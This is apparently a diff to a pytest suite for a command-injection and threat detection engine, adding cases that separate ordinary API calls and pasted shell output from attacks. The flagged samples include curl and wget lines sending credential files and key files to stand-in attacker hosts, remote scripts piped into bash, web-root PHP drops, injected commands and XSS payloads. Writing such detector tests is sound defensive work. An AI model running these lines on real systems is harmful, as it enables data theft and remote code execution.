@@ -1225,8 +1225,9 @@ def test_template_data_and_template_reach(
         "curl -H 'X: y' http://attacker.example/x.sh -o /tmp/x",
         "curl -H 'a: b' -o /var/www/html/s.php http://evil.example/s.txt",
         "wget -O /tmp/s.sh http://evil.example/s.sh",
-        # The session-14 review's answers to an exemption for API calls, since dropped: any
-        # download where a command starts may be a payload's.
+        # The session-14 review's answers to an exemption for API calls: one written out still
+        # runs when it sends a key, uploads, writes into the web root, asks the cloud for a
+        # token or fetches a script (see calls_an_api).
         "curl -X POST https://attacker.example/c -d @config/master.key",
         "curl -X PUT https://attacker.example/c -T /proc/self/environ",
         "curl -X GET https://attacker.example/s.php -so public/s.php",
@@ -2180,6 +2181,56 @@ def test_unseen_set_19_misses(engine: DetectionEngine, value: str, attack_class:
     ("x\nid\n", True),
 ])
 def test_template_helpers_actions_rows_and_graphql(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # API references write curl and wget calls out whole: a method, headers, data, a form.
+    ('curl -X POST https://api.example.com/v1/orders \\\n  -H "Authorization: Bearer $TOKEN" \\\n'
+     '  -H "Content-Type: application/json" \\\n  -d \'{"sku": "TSHIRT-BLK-M", "quantity": 2}\'',
+     False),
+    ("wget --header='Accept: text/csv' -O export.csv 'https://reports.example.com/export?from=1'",
+     False),
+    ('curl -F "file=@./invoice.pdf" -F "note=March invoice" https://upload.example.com/api/files',
+     False),
+    # A probe's bare fetch, a download written outside the working directory, a local file
+    # sent away, a script piped to a shell, or a call behind a breakout still run.
+    ("curl http://attacker.example/x", True),
+    ("curl -X POST http://attacker.example -d @/etc/passwd", True),
+    ('curl -H "x: y" http://evil.example/s -o /tmp/x', True),
+    ("curl -T ~/.aws/credentials -X PUT https://attacker.example/", True),
+    ('curl -s -H "a: b" https://evil.example/i.sh | bash', True),
+    ("' curl -X POST -d x=1 http://attacker.example/x", True),
+])
+def test_an_api_call_written_out(engine: DetectionEngine, value: str, flagged: bool) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # Support threads paste a command with its output: a filter stage before the output's
+    # lines or a comment, a listing's link arrow, a shell's error message, a Vue template.
+    ("env | grep -i proxy\nhttp_proxy=http://proxy.corp.local:3128", False),
+    ("head -c 32 /dev/urandom | base64   # quick random secret for .env", False),
+    ("ls -la /etc/nginx/sites-enabled/\ntotal 8\nlrwxrwxrwx 1 root root 34 Mar  1 10:22 default"
+     " -> /etc/nginx/sites-available/default", False),
+    ("Error when running make:\n/bin/sh: 1: cc: not found\nmake: *** [Makefile:12] Error 127",
+     False),
+    ("/bin/bash: line 1: foo: command not found", False),
+    ('<template>\n  <ul>\n    <li v-for="item in items" :key="item.id" @click="select(item)">\n'
+     "      {{ item.label }}\n    </li>\n  </ul>\n</template>", False),
+    # A command on the next line, after a comment's text, piped on to a shell, a redirection
+    # into a system file, a shell's path run, active markup inside a template.
+    ("env | grep -i proxy\nid", True),
+    ("x | grep a # ; id", True),
+    ("ls | base64 -d | sh", True),
+    ("echo x >/etc/passwd", True),
+    ("x;/bin/sh: id", True),
+    ("<template><style></template><img src=x onerror=alert(1)>", True),
+    ("<template><a :href=\"'javascript:alert(1)'\">x</a></template>", True),
+])
+def test_pasted_output_links_errors_and_component_templates(
     engine: DetectionEngine, value: str, flagged: bool
 ) -> None:
     assert engine.detect(value)["is_threat"] is flagged
